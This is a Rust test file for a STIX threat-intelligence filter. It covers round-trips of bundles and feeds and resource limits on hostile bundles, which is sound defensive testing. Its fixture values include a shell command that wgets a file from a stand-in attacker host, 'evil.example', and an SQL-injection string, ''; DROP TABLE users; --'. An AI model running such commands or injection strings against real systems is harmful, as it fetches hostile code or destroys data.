//! STIX: a bundle of ours, read by ours, and hostile bundles.

#![allow(clippy::unwrap_used, reason = "a test")]

use std::collections::BTreeSet;
use std::time::{Duration, Instant};

use cybexp_filters::{FILTERS, Filter, RawInput, Refusal, Yield, normal};
use cybexp_share::stix::{Creator, ObservedEvent, StixBundle};
use cybexp_share::{FeedHead, FeedWriter, Item, format};
use serde_json::{Value, json};
use tahoe_core::{Category, Node, OrgId, Scalar, SubType, Timestamp, Tlp};

fn run(data: &Value) -> Result<Yield, Refusal> {
    let mut filters = FILTERS.iter();
    let filter: &dyn Filter = *filters.find(|filter| filter.name() == "stix").unwrap();
    filter.run(&RawInput {
        data,
        orgid: &OrgId::new("unr").unwrap(),
        timezone: "UTC",
        timestamp: Timestamp::new(1_764_300_000.0).unwrap(),
    })
}

/// Returns the attributes of what was made, at any depth, as `sub_type=value`.
fn attributes<'a>(nodes: impl Iterator<Item = &'a Node>) -> BTreeSet<String> {
    let mut all = BTreeSet::new();
    for node in nodes {
        match node {
            Node::Attribute(one) => drop(all.insert(format!("{}={}", one.sub_type(), one.data()))),
            Node::Object(object) => all.extend(attributes(object.children().iter())),
        }
    }
    all
}

fn told(made: &Yield) -> BTreeSet<String> {
    let nodes = made.events.iter().flat_map(|event| event.children().iter());
    attributes(nodes)
}

/// A value of each sub_type that has an observable of its own, and of some that have none.
fn values() -> Vec<(&'static str, Scalar)> {
    let texts = [
        ("ipv4", "203.0.113.9"),
        ("ipv6", "2001:db8::9"),
        ("cidr", "198.51.100.0/24"),
        ("cidr", "2001:db8:ffff::/48"),
        ("hostname", "www.evil.example"),
        ("hostname", "under_score.evil.example"),
        ("domain", "evil.example"),
        ("url", "http://evil.example/it's.sh?a=1"),
        ("email_addr", "jdoe@evil.example"),
        ("md5", "d41d8cd98f00b204e9800998ecf8427e"),
        ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"),
        (
            "sha256",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
        (
            "sha512",
            "cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e",
        ),
        ("filename", "it's \"x\"\\y.sh"),
        ("username", "Grüße \u{1f600}"),
        ("mutex", "Global\\x"),
        ("mac_address", "00:53:00:aa:bb:01"),
        ("regkey", "HKLM\\Software\\x"),
        (
            "shell_command",
            "cd /tmp; wget 'http://evil.example/x' || uname -a",
        ),
        ("password", "'; DROP TABLE users; --"),
        ("hassh", "92674389fa1e47a27ddd8d9b63ecd42b"),
        ("cve_id", "CVE-2021-44228"),
    ];
    let asn = normal(&SubType::from_static("asn"), &"64500".into()).unwrap();
    let mut values: Vec<_> = texts.map(|(name, text)| (name, text.into())).into();
    values.extend([
        ("asn", asn.data().clone()),
        ("port", 4444_i64.into()),
        ("success", true.into()),
    ]);
    values
}

#[test]
fn an_event_of_ours_comes_back_with_the_same_attributes_and_contexts() {
    for (sub_type, value) in values() {
        let at = 1_764_100_000.5;
        let data = json!({sub_type: [value]});
        let event = ObservedEvent {
            hash: "0123456789abcdef",
            sub_type: "ssh",
            timestamp: at,
            data: data.as_object().unwrap(),
        };
        let mut bundle = StixBundle::new(Creator::new("Example Org", at), Tlp::Amber);
        bundle.add_event(&event, |_, _| true).unwrap();
        let bundle = bundle.end();
        let made = run(&bundle).unwrap();
        let told = told(&made);
        assert!(
            told.contains(&format!("{sub_type}={value}")),
            "{sub_type}: {told:?}"
        );
        assert!(told.contains("name=Example Org"), "{told:?}");
        let observed = made
            .events
            .iter()
            .find(|event| event.sub_type().as_str() == "stix_observed");
        let observed = observed.unwrap();
        assert_eq!(observed.timestamp().get(), at, "{sub_type}");
        for event in &made.events {
            assert_eq!(event.tlp(), Some(Tlp::Amber), "{sub_type}");
        }
        // what STIX has no pattern for is no indicator, so nothing says that it is malicious
        let has_pattern = bundle["objects"]
            .as_array()
            .unwrap()
            .iter()
            .any(|one| one["type"] == "indicator");
        let bad = normal(&SubType::new(sub_type).unwrap(), &value)
            .unwrap()
            .hash();
        let is_bad = observed.malicious().contains(&bad);
        assert_eq!(
            is_bad,
            has_pattern && sub_type != "domain",
            "{sub_type}: {bundle}"
        );
        let category = if has_pattern {
            Category::Malicious
        } else {
            Category::Unknown
        };
        assert_eq!(observed.category(), category, "{sub_type}");
    }
}

#[test]
fn objects_of_ours_come_back_whole() {
    let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let data = json!({
        "file": [{"filename": ["x.sh"], "sha256": [sha256], "md5": ["d41d8cd98f00b204e9800998ecf8427e"]}],
        "credential": [{"username": ["root"], "password": ["toor"]}],
    });
    let event = ObservedEvent {
        hash: "0123456789abcdef",
        sub_type: "file_download",
        timestamp: 5.0,
        data: data.as_object().unwrap(),
    };
    let mut bundle = StixBundle::new(Creator::new("Example Org", 5.0), Tlp::Clear);
    bundle
        .add_event(&event, |name, _| name == "sha256")
        .unwrap();
    let made = run(&bundle.end()).unwrap();
    let observed = made
        .events
        .iter()
        .find(|event| event.sub_type().as_str() == "stix_observed");
    let children = serde_json::to_value(observed.unwrap().children()).unwrap();
    assert_eq!(children["file"], data["file"]);
    assert_eq!(children["credential"], data["credential"]);
}

#[test]
fn a_feed_of_ours_comes_back() {
    let head = FeedHead {
        name: "attackers".to_owned(),
        description: String::new(),
        organisation: "Example Org".to_owned(),
        seq: 1,
        created: 5.0,
        changed: 6.0,
        tlp: Tlp::Green,
        comments: false,
    };
    let mut writer = FeedWriter::new(format("stix.json").unwrap(), &head);
    let mut text = Vec::new();
    for (sub_type, data) in values() {
        let item = Item {
            sub_type: sub_type.to_owned(),
            data,
            added: 5.0,
            changed: 5.0,
            seen: Some((4.0, 5.0)),
            count: 1,
            reason: String::new(),
            tlp: Tlp::Green,
        };
        text.extend(writer.push(&item).into_iter().flatten());
    }
    text.extend(writer.end().0);
    let made = run(&serde_json::from_slice(&text).unwrap()).unwrap();
    let told = told(&made);
    let of_own = ["password", "hassh", "cve_id", "port", "success"];
    for (sub_type, value) in values() {
        let is_there = told.contains(&format!("{sub_type}={value}"));
        let leaves =
            !of_own.contains(&sub_type) && value.as_str() != Some("under_score.evil.example");
        assert_eq!(is_there, leaves, "{sub_type}={value}");
    }
    let all_indicators = made.events.iter().all(|event| {
        event.sub_type().as_str() == "stix_indicator" && event.category() == Category::Malicious
    });
    assert!(
        all_indicators,
        "the observable of an indicator is told with it"
    );
}

fn indicator(n: usize, pattern: &str) -> Value {
    json!({"type": "indicator", "id": format!("indicator--{n}"), "pattern": pattern, "valid_from": "2026-01-01T00:00:00Z"})
}

#[test]
fn hostile_bundles_take_little_time_and_memory() {
    let begun = Instant::now();
    // an observable of 60 KiB, told by 100,000 references
    let command =
        json!({"type": "process", "id": "process--1", "command_line": "a".repeat(60_000)});
    let refs = vec!["process--1"; 100_000];
    let observed = |n: usize| json!({"type": "observed-data", "id": format!("observed-data--{n}"), "object_refs": refs});
    let many: Value = (0..3).map(observed).chain([command.clone()]).collect();
    let refused = run(&many).unwrap_err().to_string();
    assert!(refused.contains("more than 128 MiB"), "{refused}");

    // sightings of an indicator of many values at one piece of observed data
    let pattern = vec!["[ipv4-addr:value = '203.0.113.9']"; 4000].join(" OR ");
    let sighting = json!({"type": "sighting", "sighting_of_ref": "indicator--1", "observed_data_refs": vec!["observed-data--1"; 10_000]});
    let data = json!([indicator(1, &pattern), sighting, sighting,
        {"type": "observed-data", "id": "observed-data--1", "object_refs": ["ipv4-addr--1"]},
        {"type": "ipv4-addr", "id": "ipv4-addr--1", "value": "203.0.113.9"}]);
    assert!(run(&data).is_ok_and(|made| made.events.len() == 2));

    // references in a circle, and to nothing
    let circle = json!([
        {"type": "domain-name", "id": "domain-name--1", "value": "a.example", "resolves_to_refs": ["domain-name--2", 5, null]},
        {"type": "domain-name", "id": "domain-name--2", "value": "b.example", "resolves_to_refs": ["domain-name--1"]},
        {"type": "observed-data", "id": "observed-data--1", "object_refs": ["domain-name--1", "observed-data--1", "x"]},
    ]);
    assert!(run(&circle).is_ok());

    // 50,000 objects in one raw, and one within another
    let objects: Vec<Value> = (0..50_000)
        .map(|n| {
            indicator(
                n,
                &format!("[file:size = {n}] OR [url:value = 'http://{n}.example/']"),
            )
        })
        .collect();
    let made = run(&json!({"type": "bundle", "objects": objects})).unwrap();
    assert_eq!(made.events.len(), 50_000);
    let mut nested =
        json!({"type": "bundle", "objects": [indicator(1, "[url:value = 'http://a.example/']")]});
    for _ in 0..50 {
        nested = json!([nested]);
    }
    assert!(run(&nested).is_err());
    let within: serde_json::Map<String, Value> =
        (0..20_000).map(|n| (n.to_string(), json!({"type": "domain-name", "value": format!("{n}.example"), "resolves_to_refs": ["1"]}))).collect();
    let made = run(&json!({"type": "observed-data", "id": "observed-data--1", "objects": within}))
        .unwrap();
    assert!(
        made.events.len() >= 40,
        "an event holds what one document can"
    );
    for event in &made.events {
        assert!(event.children().refs().len() < 10_000);
    }

    for odd in [
        json!({"type": "indicator", "pattern": 5}),
        json!({"type": "indicator", "pattern": "[".repeat(100_000)}),
        json!({"type": "indicator", "pattern": "'\\".repeat(100_000)}),
        json!({"type": "observed-data", "objects": [1, 2], "object_refs": "x"}),
        json!({"type": "file", "hashes": [1], "name": {"a": 1}}),
        json!({"type": "x-cybexp-attribute", "attribute_type": "a b", "value": 1}),
        json!({"type": "x-cybexp-attribute", "attribute_type": "port4", "value": 444}),
        json!({"type": {"a": 1}}),
        json!(["a", 1, null]),
    ] {
        assert!(run(&odd).is_err(), "{odd}");
    }
    let took = begun.elapsed();
    assert!(took < Duration::from_secs(60), "{took:?}");
}

/// Prints what is made of bundles of others: a line of JSON for each file in the folder `$CYBEXP_STIX_SAMPLES`.
#[test]
#[ignore = "needs samples, which are not ours to keep"]
fn samples_of_others() {
    let folder = std::env::var("CYBEXP_STIX_SAMPLES").unwrap();
    let mut folders = vec![std::path::PathBuf::from(folder)];
    while let Some(folder) = folders.pop() {
        for entry in folder.read_dir().unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
                continue;
            }
            let Some(data) = std::fs::read_to_string(&path)
                .ok()
                .and_then(|text| tahoe_core::json::parse(&text).ok())
            else {
                continue;
            };
            let begun = Instant::now();
            let line = match run(&data) {
                Ok(made) => {
                    json!({"file": path, "events": made.events.len(), "left_out": made.left_out, "values": told(&made),
                    "malicious": made.events.iter().filter(|event| event.category() == Category::Malicious).count(),
                    "ms": begun.elapsed().as_millis() as u64})
                }
                Err(refusal) => json!({"file": path, "refused": refusal.to_string()}),
            };
            println!("{line}");
        }
    }
}
